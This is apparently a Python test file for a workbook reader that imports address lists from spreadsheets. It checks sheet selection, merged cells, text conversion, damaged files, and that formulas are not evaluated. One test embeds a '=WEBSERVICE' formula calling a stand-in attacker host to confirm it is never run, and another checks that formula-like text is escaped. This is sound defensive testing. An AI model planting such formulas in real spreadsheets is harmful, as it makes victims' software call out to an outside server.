"""Workbooks: the sheet with the addresses, cells as a person would have typed them, nothing carried out."""

from __future__ import annotations

from contextlib import suppress
from datetime import date, datetime, time
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from service.kernel.errors import FarsowError
from service.people import workbooks
from service.people.workbooks import as_text, read_workbook


def write(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """Write sheets of cells as they are, from A1 on."""
    with xlsxwriter.Workbook(path, {"strings_to_urls": False, "strings_to_formulas": False}) as book:
        for name, rows in sheets.items():
            sheet = book.add_worksheet(name)
            for row, cells in enumerate(rows):
                sheet.write_row(row, 0, cells)
    return path


def test_first_sheet_with_addresses_is_taken_and_the_others_are_named(tmp_path: Path) -> None:
    sheets = {"Read me": [["How to use"]], "People": [["Name", "E-mail"], ["Maria", "m@x.org"]], "Old": [["o@x.org"]]}

    book = read_workbook(write(tmp_path / "people.xlsx", sheets))

    assert (book.sheet, book.others) == ("People", ("Read me", "Old"))
    assert list(book.records) == [["Name", "E-mail"], ["Maria", "m@x.org"]]


def test_another_sheet_is_taken_when_it_is_asked_for_and_hidden_ones_do_not_count(tmp_path: Path) -> None:
    path = tmp_path / "three.xlsx"
    with xlsxwriter.Workbook(path) as made:
        for name in ("Read me", "Private", "People", "Old"):
            made.add_worksheet(name).write(0, 0, f"{name.lower().replace(' ', '')}@x.org")
        made.get_worksheet_by_name("Private").hide()

    taken = [read_workbook(path, at=at) for at in (0, 1, 2, 9)]

    assert [book.sheet for book in taken] == ["Read me", "People", "Old", "Read me"]
    assert {book.sheets for book in taken} == {("Read me", "People", "Old")}
    assert list(taken[2].records) == [["old@x.org"]]


def test_hidden_sheet_is_named_and_never_taken(tmp_path: Path) -> None:
    path = tmp_path / "hidden.xlsx"
    with xlsxwriter.Workbook(path) as made:
        made.add_worksheet("Shown").write(0, 0, "seen")
        hidden = made.add_worksheet("Private")
        hidden.write(0, 0, "secret@x.org")
        hidden.hide()

    book = read_workbook(path)

    assert (book.sheet, book.others, list(book.records)) == ("Shown", ("Private",), [["seen"]])


def test_rows_keep_the_numbers_of_the_sheet(tmp_path: Path) -> None:
    path = tmp_path / "offset.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.write(2, 1, "E-mail")
        sheet.write(4, 1, "m@x.org")

    assert list(read_workbook(path).records) == [[], [], ["", "E-mail"], [], ["", "m@x.org"]]


def test_merged_cells_hold_for_each_of_their_rows(tmp_path: Path) -> None:
    path = tmp_path / "merged.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.merge_range(0, 0, 0, 1, "Guests of the launch")
        sheet.merge_range(1, 0, 3, 0, "Example House")
        for row, address in enumerate(("a@x.org", "b@x.org", "c@x.org", "d@x.org"), 1):
            sheet.write(row, 1, address)

    assert list(read_workbook(path).records) == [
        ["Guests of the launch"],
        ["Example House", "a@x.org"],
        ["Example House", "b@x.org"],
        ["Example House", "c@x.org"],
        ["", "d@x.org"],
    ]


def test_formula_gives_its_stored_value_and_is_not_worked_out(tmp_path: Path) -> None:
    path = tmp_path / "formula.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.write(0, 0, "m@x.org")
        sheet.write_formula(0, 1, '=WEBSERVICE("https://attacker.example/")', None, "stored")
        sheet.write_formula(0, 2, "=1/0", None, "#DIV/0!")
        sheet.write(0, 3, 254712345678)

    assert list(read_workbook(path).records) == [["m@x.org", "stored", "", "254712345678"]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        pytest.param("=1+1", "'=1+1", id="text that looks like a formula"),
        pytest.param(3.0, "3", id="whole number"),
        pytest.param(2.5, "2.5", id="fraction"),
        pytest.param(1e22, "1e+22", id="too large to be whole for certain"),
        pytest.param(float("inf"), "inf", id="infinite"),
        pytest.param(True, "true", id="yes"),
        pytest.param(date(2026, 11, 3), "2026-11-03", id="date"),
        pytest.param(datetime(2026, 11, 3), "2026-11-03", id="date kept as an instant"),
        pytest.param(datetime(2026, 11, 3, 9, 5), "2026-11-03 09:05", id="date and time"),
        pytest.param(time(9, 5), "09:05:00", id="time"),
    ],
)
def test_cells_become_text(cell: workbooks.Cell, text: str) -> None:
    assert as_text(cell) == text


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"PK\x03\x04 and nothing more", id="no zip"),
        pytest.param(b"\xd0\xcf\x11\xe0" + b"\0" * 600, id="no compound file"),
        pytest.param(b"", id="empty"),
    ],
)
def test_broken_workbook_is_refused_in_one_sentence(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "broken.xlsx"
    path.write_bytes(data)

    with pytest.raises(workbooks.BrokenWorkbook):
        list(read_workbook(path).records)


def test_too_many_columns_are_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "wide.xlsx", {"Wide": [["m@x.org", *["x"] * 500]]})

    with pytest.raises(FarsowError, match="columns"):
        list(read_workbook(path).records)


CELLS = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff_"), max_size=12)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=6))
def test_texts_come_back_as_they_were_written(tmp_path: Path, rows: list[list[str]]) -> None:
    rows = [["m@x.org"], *rows]

    read = list(read_workbook(write(tmp_path / "any.xlsx", {"Any": rows})).records)  # type: ignore[arg-type]

    def tail(row: list[str]) -> list[str]:
        return row[: len(row) - next((n for n, cell in enumerate(reversed(row)) if cell), len(row))]

    expected = [tail(row) for row in rows]
    while not expected[-1]:
        expected.pop()
    assert read == [[workbooks._as_typed(cell) for cell in row] for row in expected]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(at=st.integers(0, 5_000), junk=st.binary(min_size=1, max_size=30))
def test_damaged_workbook_is_read_or_refused(tmp_path: Path, at: int, junk: bytes) -> None:
    path = write(tmp_path / "damaged.xlsx", {"People": [["Name", "E-mail"], ["Maria", "m@x.org"]]})
    data = bytearray(path.read_bytes())
    data[at % len(data) : at % len(data) + len(junk)] = junk
    path.write_bytes(data)

    with suppress(FarsowError):
        list(read_workbook(path).records)
